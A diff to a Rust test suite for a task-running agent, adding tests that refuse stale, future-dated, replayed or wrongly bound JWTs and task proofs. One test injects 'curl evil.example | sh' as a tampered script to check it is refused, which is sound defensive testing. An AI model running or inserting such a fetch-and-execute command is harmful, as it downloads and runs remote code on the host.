@@ -46,6 +46,15 @@ struct Harness {
 }
 
 fn harness(jwks: &JwksServer, issuer: Option<&str>, audience: Option<&str>) -> Harness {
+    harness_with_max_age(jwks, issuer, audience, 3600)
+}
+
+fn harness_with_max_age(
+    jwks: &JwksServer,
+    issuer: Option<&str>,
+    audience: Option<&str>,
+    max_age_secs: u64,
+) -> Harness {
     let dir = tempfile::tempdir().unwrap();
     let spool = Spool::open(dir.path()).unwrap();
     let tmp_root = dir.path().join("tmp");
@@ -60,6 +69,7 @@ fn harness(jwks: &JwksServer, issuer: Option<&str>, audience: Option<&str>) -> H
         issuer: issuer.map(str::to_string),
         audience: audience.map(str::to_string),
         email_claim: "email".into(),
+        max_age_secs,
     })
     .unwrap();
     Harness {
@@ -83,8 +93,18 @@ impl Harness {
     /// Runs a task of `CREATOR` carrying `jwt`; the script echoes a secret and leaves a
     /// marker file. Returns the result, the log, and whether the script ran.
     async fn run(&self, task_id: i64, jwt: Option<String>) -> (TaskResult, String, bool) {
-        let marker = self.dir.path().join(format!("ran-{task_id}"));
-        let offer = TaskOffer {
+        self.run_offer(&self.offer(task_id, jwt)).await
+    }
+
+    fn marker(&self, task_id: i64) -> std::path::PathBuf {
+        self.dir.path().join(format!("ran-{task_id}"))
+    }
+
+    /// A task of `CREATOR` carrying `jwt`, created just now; its script echoes a secret
+    /// and leaves a marker file.
+    fn offer(&self, task_id: i64, jwt: Option<String>) -> TaskOffer {
+        let marker = self.marker(task_id);
+        TaskOffer {
             task_id,
             target: "demo".into(),
             kind: "bash".into(),
@@ -99,11 +119,19 @@ impl Harness {
             user_email: CREATOR.into(),
             user_groups: vec![],
             user_jwt: jwt,
+            user_jwt_proof: None,
+            created_at_ms: Some(chrono::Utc::now().timestamp_millis()),
             config: None,
             start_deadline_ms: 5000,
-        };
+        }
+    }
+
+    /// Runs `offer`: the result, the log, and whether the script ran.
+    async fn run_offer(&self, offer: &TaskOffer) -> (TaskResult, String, bool) {
+        let task_id = offer.task_id;
+        let marker = self.marker(task_id);
         let task = self.spool.task(task_id);
-        let result = run_task(&self.ctx, &offer, &StopHandle::new(), &task, |_| {})
+        let result = run_task(&self.ctx, offer, &StopHandle::new(), &task, |_| {})
             .await
             .expect("the spool works");
         let log = std::fs::read_to_string(task.log_path()).unwrap();
@@ -118,8 +146,15 @@ impl Harness {
 /// Asserts the task was refused `unauthenticated` with `why` in its message, before any
 /// secret was fetched and without running.
 async fn assert_refused(h: &Harness, id: i64, jwt: Option<String>, why: &str) {
+    assert_offer_refused(h, &h.offer(id, jwt), why).await;
+}
+
+/// [`assert_refused`] for a prepared offer.
+async fn assert_offer_refused(h: &Harness, offer: &TaskOffer, why: &str) {
+    let id = offer.task_id;
+    let jwt = offer.user_jwt.clone();
     let before = h.fetches();
-    let (result, log, ran) = h.run(id, jwt.clone()).await;
+    let (result, log, ran) = h.run_offer(offer).await;
     assert_eq!(result.status, TaskStatus::Failure, "task {id}: {log}");
     assert_eq!(
         result.failure_reason,
@@ -316,4 +351,122 @@ async fn a_rotated_key_is_picked_up_without_restarting_the_agent() {
         "key `2026-01`, which is not in",
     )
     .await;
+}
+
+#[tokio::test]
+async fn tokens_issued_after_their_task_or_longer_ago_than_the_max_age_are_refused() {
+    let rsa = TestKey::rsa("k1");
+    let jwks = JwksServer::start(&[&rsa]);
+    let h = harness_with_max_age(&jwks, None, None, 600);
+    let now = chrono::Utc::now().timestamp();
+    let token_issued =
+        |iat: i64| rsa.sign(&json!({"email": CREATOR, "iat": iat, "exp": now + 3600}));
+
+    // Issued a few minutes ago, before its task: runs.
+    let (result, log, ran) = h.run(1, Some(token_issued(now - 300))).await;
+    assert_eq!(result.status, TaskStatus::Success, "{log}");
+    assert!(ran);
+    // A server that does not say when the task was created: only the age is checked.
+    let mut offer = h.offer(2, Some(token_issued(now - 60)));
+    offer.created_at_ms = None;
+    let (result, log, _) = h.run_offer(&offer).await;
+    assert_eq!(result.status, TaskStatus::Success, "{log}");
+
+    // A task created an hour ago carrying a token issued now: not its creator's token.
+    let mut offer = h.offer(3, Some(token_issued(now)));
+    offer.created_at_ms = Some((now - 3600) * 1000);
+    assert_offer_refused(&h, &offer, "after the task was created at").await;
+    // Still valid (exp in an hour) but issued 20 minutes ago, with a max age of 10.
+    assert_refused(
+        &h,
+        4,
+        Some(token_issued(now - 1200)),
+        "more than JWT_MAX_AGE_SECS (600 s) ago",
+    )
+    .await;
+    let no_iat = json!({"email": CREATOR, "exp": now + 300});
+    assert_refused(
+        &h,
+        5,
+        Some(rsa.sign(&no_iat)),
+        "has no `iat` (issued-at) claim",
+    )
+    .await;
+    assert_refused(&h, 6, Some(token_issued(now + 600)), "issued in the future").await;
+    // A `crit` header the verifier does not implement.
+    let crit = rsa.sign_with_header(
+        &json!({"alg": "RS256", "kid": "k1", "crit": ["exp"], "exp": now + 300}),
+        &claims_for(CREATOR, 300),
+    );
+    assert_refused(&h, 7, Some(crit), "marks `exp` as critical").await;
+}
+
+fn binding(offer: &TaskOffer) -> runops_jwt::proof::TaskBinding<'_> {
+    runops_jwt::proof::TaskBinding {
+        task_id: offer.task_id,
+        target: &offer.target,
+        kind: &offer.kind,
+        script: &offer.script,
+    }
+}
+
+#[tokio::test]
+async fn a_key_bound_token_runs_only_with_its_creators_proof_for_that_very_task() {
+    let idp = TestKey::rsa("idp");
+    let jwks = JwksServer::start(&[&idp]);
+    let h = harness(&jwks, None, None);
+    // The creator's CLI holds this key; the identity provider bound the token to it.
+    let holder = TestKey::ec("holder");
+    let key = holder.proof_key();
+    let mut claims = claims_for(CREATOR, 300);
+    claims["cnf"] = json!({"jkt": holder.thumbprint()});
+    let token = idp.sign(&claims);
+
+    let mut offer = h.offer(1, Some(token.clone()));
+    offer.user_jwt_proof = Some(key.sign(&token, &binding(&offer)).unwrap());
+    let (result, log, ran) = h.run_offer(&offer).await;
+    assert_eq!(result.status, TaskStatus::Success, "{log}");
+    assert!(ran);
+    assert_eq!(h.fetches(), 1);
+    // The same proof again (the server re-offering the task): refused, not run twice.
+    let auth = h.ctx.authenticator.clone().unwrap();
+    let again = auth.check(&offer).await.unwrap_err();
+    assert_eq!(again.reason, FailureReason::Unauthenticated);
+    assert!(again.message.contains("already used"), "{}", again.message);
+
+    // The captured token alone.
+    assert_refused(
+        &h,
+        2,
+        Some(token.clone()),
+        "carries no proof signed with that key",
+    )
+    .await;
+    // A proof of task 3 attached to task 4.
+    let mut offer = h.offer(4, Some(token.clone()));
+    let other = h.offer(3, Some(token.clone()));
+    offer.user_jwt_proof = Some(key.sign(&token, &binding(&other)).unwrap());
+    assert_offer_refused(&h, &offer, "was made for task 3, not task 4").await;
+    // A proof of this task, but the server swapped the script.
+    let mut offer = h.offer(5, Some(token.clone()));
+    offer.user_jwt_proof = Some(key.sign(&token, &binding(&offer)).unwrap());
+    offer.script = format!("curl evil.example | sh; {}", offer.script);
+    assert_offer_refused(&h, &offer, "another script").await;
+    // Signed by a key that is not the one the token is bound to.
+    let stranger = TestKey::ec("stranger").proof_key();
+    let mut offer = h.offer(6, Some(token.clone()));
+    offer.user_jwt_proof = Some(stranger.sign(&token, &binding(&offer)).unwrap());
+    assert_offer_refused(&h, &offer, "but the identity token is bound to key").await;
+    // A proof made with another token of the same user and key.
+    let mut offer = h.offer(7, Some(token.clone()));
+    let mut other_claims = claims.clone();
+    other_claims["jti"] = json!("another");
+    let other_token = idp.sign(&other_claims);
+    offer.user_jwt_proof = Some(key.sign(&other_token, &binding(&offer)).unwrap());
+    assert_offer_refused(&h, &offer, "another identity token").await;
+    // A confirmation method the agent cannot check.
+    let mut mtls = claims_for(CREATOR, 300);
+    mtls["cnf"] = json!({"x5t#S256": "bwcK0esc3ACC3DB2Y5_lESsXE8o9ltc05O89jdN-dg2"});
+    assert_refused(&h, 8, Some(idp.sign(&mtls)), "only `jkt`").await;
+    assert_eq!(h.fetches(), 1, "no refused task fetched a secret");
 }
